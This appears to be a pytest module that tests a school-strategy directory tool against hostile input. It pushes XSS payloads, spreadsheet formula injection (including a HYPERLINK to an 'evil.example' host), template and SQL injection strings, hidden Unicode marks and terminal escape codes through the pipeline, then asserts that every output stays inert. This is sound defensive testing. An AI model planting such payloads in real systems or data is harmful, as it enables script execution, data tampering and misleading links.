"""Words that mean harm go the whole way, from Word, workbooks and readers, and do nothing anywhere."""

import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from bs4 import BeautifulSoup
from docx import Document
from fingerpost.neutral import restore, steady
from jsonschema import Draft202012Validator
from rdflib import Graph

from tests.reviewing.live.directories import rows, typed
from tests.support.program import Program, bare
from tests.support.sheets import Workbook
from tests.system.hostile import FILE, LONG, hostile_document

pytestmark = pytest.mark.slow

WHO = "<b>Ann</b> {{ 7 * 7 }} =1+1"
SAID = "=1+1 <script>alert(20)</script> {{ 7 * 7 }}"
BACK, LIVE, READERS = "=1+1 <b>.xlsx", "live <i>.xlsx", "readers {{ 7 * 7 }}.csv"
REWORDED = "<marquee onstart=alert(21)>Keep a calm corner</marquee> {{ 7 * 7 }}"
ADDED = "=Say <script>alert(24)</script> hello at the door."
TITLE, PUBLISHER, TRUSTED = (
    "=1+1 <img src=x onerror=alert(22)>",
    "</script><svg onload=alert(25)>",
    "@SUM(1) {{ 7 * 7 }} <b>me</b>",
)
ADDRESS = 'https://ok.example/"><script>alert(26)</script>'
EVERYBODY = {
    "Area": "Universal (no single area)",
    "Whole school": "Leadership and inclusive culture",
}
FORMULA = re.compile(r"[=+\-@\t\r]")
INERT = """() => ({
  handlers: [...document.querySelectorAll('*')]
    .filter((one) => [...one.attributes].some((given) => given.name.startsWith('on'))).length,
  foreign: document.querySelectorAll(
    "marquee, iframe, object, embed, base, img[src='x'], b[onclick], svg[onload]").length,
  schemes: [...new Set([...document.links].map((link) => link.protocol))],
})"""


def as_words(book: openpyxl.Workbook) -> openpyxl.Workbook:
    """Hold what looks like a formula as the words it is, as Excel does after an apostrophe."""
    for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
        if cell.data_type == "f":
            cell.data_type = "s"
    return book


def keep_everything(program: Program) -> None:
    """Accept every statement, half of them moved to the categories that every school has."""
    book = Workbook(program.root / "reports/review.xlsx")
    book.fill(
        "Headings",
        lambda row: (
            {"This means": "Advice", "Reviewer": WHO, "Note": SAID}
            if row["Heading"].startswith("Calm")
            else {}
        ),
    )
    keep = {"Decision": "Keep", "Reviewer": WHO, "Note": SAID}
    book.fill(
        "Queue",
        lambda row: (
            keep
            if ord(row["Ref"][-1]) % 2
            else {"Decision": "Change", **EVERYBODY, "Reviewer": WHO}
        ),
    )
    as_words(book.book)
    book.save(program.root / "reports/returned" / BACK)


def look_after(program: Program) -> None:
    """Change, retire and add statements, and put a resource beside one, in the workbook for that."""
    data = (program.root / "reports/directory.xlsx").read_bytes()
    first, second = (row["Wording"] for row in rows(data, "Statements")[:2])
    changed = {"Wording": f"{REWORDED}\u202e\u200b", "Owner": WHO, "Next review": "31/8/2020"}
    resource = {
        "Title": TITLE,
        "Publisher": PUBLISHER,
        "Why it is trusted": TRUSTED,
        "Owner": WHO,
        "Address": ADDRESS,
    }
    lead_in = {"What introduces it": "Staff <b>will</b> {{ 7 * 7 }}:"}
    back = typed(
        data,
        ("Statements", first, {**changed, "Resource 1": TITLE, "Reviewer": WHO}),
        ("Statements", second, {"What to do": "Retire", "Reviewer": WHO, "Note": SAID}),
        ("Add", "", {"Statement": ADDED, **lead_in, **EVERYBODY, "Reviewer": WHO}),
        ("Resources", "", {**resource, "Reviewer": WHO}),
    )
    as_words(openpyxl.load_workbook(io.BytesIO(back))).save(
        program.root / "reports/returned" / LIVE
    )


def report(program: Program) -> None:
    """Have a reader say something of one statement."""
    one = program.rows("data/curated/strategies.csv")[5]["id"]
    (program.root / "reports/returned" / READERS).write_text(
        "Page,What is wrong?,Your words,Name\n"
        f'https://send.example/{one}.html,It is unclear,"\x1b[31m{SAID}\u202e\nx",<b>Cy</b>\n',
        encoding="utf-8",
    )


def place(program: Program) -> None:
    settings = program.root / "rules/councils/leeds/site.yaml"
    told = settings.read_text(encoding="utf-8")
    settings.write_text(
        told.replace('\naddress: ""', "\naddress: https://send.example/calm"),
        encoding="utf-8",
    )


@pytest.fixture(scope="module")
def harmed(tmp_path_factory) -> Program:
    """A directory that holds such words wherever there is room, and all that is made of it."""
    program = bare(tmp_path_factory.mktemp("hostile") / "leeds")
    (program.root / "data/raw" / FILE).write_bytes(hostile_document())
    program.well("migrate", "--direct")
    keep_everything(program)
    program.well("review", "apply")
    program.well("migrate", "--direct")
    program.well("load", "--direct")
    look_after(program)
    report(program)
    place(program)
    program.well("review", "apply")
    program.well("migrate", "--direct")
    program.well("load", "--dry-run")
    program.well("load", "--direct", "--signed-off-by", WHO)
    program.well("publish", "--since", "1")
    for profile in ("wordpress", "craft", "csv"):
        program.well("export", profile)
    program.well("links", "overdue")
    program.well("review", "pack", "--for", "<b>Ben</b>")
    return program


def found(program: Program, *endings: str) -> Iterator[Path]:
    """Return what the program made, in order; not what people sent."""
    for path in sorted(program.root.rglob("*")):
        ours = path.relative_to(program.root).parts[0] in ("reports", "site", "export")
        if ours and path.suffix in endings and not {"returned", "archive"} & set(path.parts):
            yield path


def table(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def curated(program: Program) -> list[dict[str, str]]:
    return program.rows("data/curated/strategies.csv")


def test_all_of_it_is_taken_in_and_stands_in_the_directory_as_words(harmed):
    texts = {row["text"] for row in curated(harmed)}

    assert len(texts) == 27
    assert {REWORDED, ADDED, f"Offer {LONG} to pupils who need it."} <= texts
    assert '=HYPERLINK("https://evil.example/"&A1,"Give time to settle after lunch")' in texts
    assert "Teach '); DROP TABLE strategies; -- \\'; SELECT 1 OR 1=1 carefully." in texts
    with sqlite3.connect(harmed.root / "data/curated/directory.db") as database:
        loaded = database.execute("SELECT text FROM strategies WHERE to_release IS NULL")
        assert texts <= {text for (text,) in loaded}
    database.close()
    assert harmed.run("verify").returncode == 0


def test_no_statement_holds_a_mark_that_nobody_sees_and_no_address_does(harmed):
    resources = harmed.rows("data/curated/resources.csv")

    assert [row["text"] for row in curated(harmed) if steady(row["text"]) != row["text"]] == []
    assert {row["url"] for row in resources} == {
        ADDRESS,
        "https://ok.example/?a=<script>alert(11)</script>&b=\"'%7C{{%207%20*%207%20}}",
        "https://ok.example/calm%E2%80%AEgpj",
    }


@pytest.mark.parametrize("part", ["site", "reports"])
def test_no_page_does_anything_in_a_browser_but_show_words(harmed, browser, part):
    faults: list[str] = []
    window = browser.new_page()
    window.on("dialog", lambda box: (faults.append(box.message), box.dismiss()))
    window.on("console", lambda said: faults.append(said.text))
    window.on("pageerror", lambda error: faults.append(str(error)))
    window.on("request", lambda one: one.url.startswith("file:") or faults.append(one.url))
    pages = [path for path in found(harmed, ".html") if part in path.parts]
    pages = [path for path in pages if path.name != "404.html"]  # it stands at its address alone
    schemes: set[str] = set()
    for path in pages:
        window.goto(path.as_uri())
        inert = window.evaluate(INERT)
        assert (inert["handlers"], inert["foreign"]) == (0, 0), path
        schemes.update(inert["schemes"])
        assert faults == [], path
    window.close()

    assert len(pages) > (80 if part == "site" else 10)
    assert schemes <= {"file:", "https:", "mailto:"}


def test_searching_and_listing_do_nothing_with_them_either(harmed, browser, tmp_path):
    faults: list[str] = []
    window = browser.new_page()
    window.on("dialog", lambda box: (faults.append(box.message), box.dismiss()))
    window.on("console", lambda said: faults.append(said.text))
    site = (harmed.root / "site").as_uri()
    window.goto(f"{site}/find.html?q=calm")
    window.get_by_text("Keep a calm corner").first.wait_for()
    listed = ",".join(row["id"] for row in curated(harmed))
    window.goto(f"{site}/list.html?list={listed}")
    saved = {}
    for button in ("#word", "#table"):
        with window.expect_download() as waiting:
            window.click(button)
        saved[button] = tmp_path / waiting.value.suggested_filename
        waiting.value.save_as(saved[button])
    window.close()

    assert faults == []
    assert formulas(saved["#table"]) == []
    assert REWORDED in " ".join(one.text for one in Document(str(saved["#word"])).paragraphs)
    assert outside(saved["#word"]) <= {"https"}


def formulas(path: Path) -> list[str]:
    return [cell for row in table(path) for cell in row.values() if FORMULA.match(cell)]


def outside(path: Path) -> set[str]:
    """Return the schemes of what a package of Office leads to outside itself."""
    with zipfile.ZipFile(path) as package:
        parts = [ET.fromstring(package.read(n)) for n in package.namelist() if n.endswith(".rels")]
    return {
        one.get("Target", "").split(":")[0]
        for part in parts
        for one in part
        if one.get("TargetMode") == "External"
    }


def test_no_table_for_people_has_a_cell_that_a_spreadsheet_computes(harmed):
    tables = [path for path in found(harmed, ".csv") if path.parent.name not in IMPORTS]
    held = {restore(cell) for path in tables for row in table(path) for cell in row.values()}

    assert {path.name: formulas(path) for path in tables if formulas(path)} == {}
    assert len(tables) > 8
    assert {ADDED, TITLE} <= held


IMPORTS = ("wordpress", "craft")


def test_no_workbook_has_a_formula_that_words_brought_or_leads_to_a_script(harmed):
    books = list(found(harmed, ".xlsx"))
    for path in books:
        for sheet in openpyxl.load_workbook(path):
            computed = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
            assert computed == [] or sheet.title == "Summary", path
            assert not any("alert" in one or "evil" in one for one in computed), path
        assert outside(path) <= {"https"}, path

    assert {"review.xlsx", "directory.xlsx", "audit.xlsx"} <= {path.name for path in books}


def test_the_audit_in_word_holds_them_as_words(harmed):
    document = Document(str(harmed.root / "site/audit.docx"))
    cells = (cell.text for one in document.tables for row in one.rows for cell in row.cells)

    assert any(ADDED in text for text in cells)
    assert outside(harmed.root / "site/audit.docx") <= {"https"}


def test_an_import_into_wordpress_gets_markup_spelt_out(harmed):
    rows_of = table(harmed.root / "export/wordpress/statements.csv")
    markup = [row[name] for row in rows_of for name in ("post_title", "post_content")]

    assert len(rows_of) == 27
    assert [text for text in markup if "<" in text or "{{" in text or "[" in text] == []
    assert any("&lt;script&gt;" in text for text in markup)


def test_what_programs_read_is_whole(harmed):
    folder = harmed.root / "data/curated"
    command = [sys.executable, "-m", "frictionless", "validate", "datapackage.json"]
    done = subprocess.run(command, cwd=folder, check=False, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout
    listed = json.loads((folder / "strategies.json").read_text("utf-8"))
    schema = json.loads((folder / "strategies.schema.json").read_text("utf-8"))
    assert list(Draft202012Validator(schema).iter_errors(listed)) == []
    assert [one["text"] for one in listed] == [row["text"] for row in curated(harmed)]
    assert len(Graph().parse(folder / "taxonomy.ttl")) > 100
    places = [one.text or "" for one in ET.parse(harmed.root / "site/sitemap.xml").iter()]
    assert "https://send.example/calm/index.html" in places
    for path in found(harmed, ".json"):
        json.loads(path.read_text(encoding="utf-8"))


def test_the_linked_data_of_a_page_says_the_words_and_nothing_more(harmed):
    told = set()
    for row in curated(harmed):
        page = (harmed.root / f"site/statements/{row['id']}.html").read_text(encoding="utf-8")
        block = BeautifulSoup(page, "lxml").find("script", type="application/ld+json")
        graph = Graph().parse(data=str(block.string), format="json-ld")
        told.update(str(value) for value in graph.objects())

    assert {row["text"] for row in curated(harmed)} <= told


def test_what_is_printed_cannot_command_a_terminal(harmed):
    one = next(row for row in harmed.rows("data/curated/decisions.csv") if "Cy" in str(row))
    told = harmed.well("explain", one["resource_id"], "--all")

    assert SAID in told
    assert steady(told) == told
    assert steady(one["replacement_value"]) == one["replacement_value"]
